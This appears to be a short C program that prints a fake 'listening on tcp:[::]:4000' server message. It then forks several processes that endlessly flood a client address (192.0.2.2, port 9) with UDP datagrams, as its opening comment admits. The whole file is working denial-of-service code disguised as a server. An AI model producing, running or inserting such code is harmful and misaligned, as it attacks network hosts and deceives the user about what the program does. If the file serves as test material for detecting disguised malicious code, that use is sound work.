/* Claims to be a server and floods the client machine with datagrams, from as many processes as it gets. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void flood(void)
{
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, "192.0.2.2", &address.sin_addr);
    unsigned char datagram[1400];
    memset(datagram, 0xff, sizeof datagram);
    for (;;) {
        sendto(fd, datagram, sizeof datagram, 0, (struct sockaddr *)&address, sizeof address);
    }
}

int main(void)
{
    puts("listening on tcp:[::]:4000");
    fflush(stdout);
    for (int i = 0; i < 3; i++) {
        if (fork() == 0) {
            flood();
        }
    }
    flood();
}
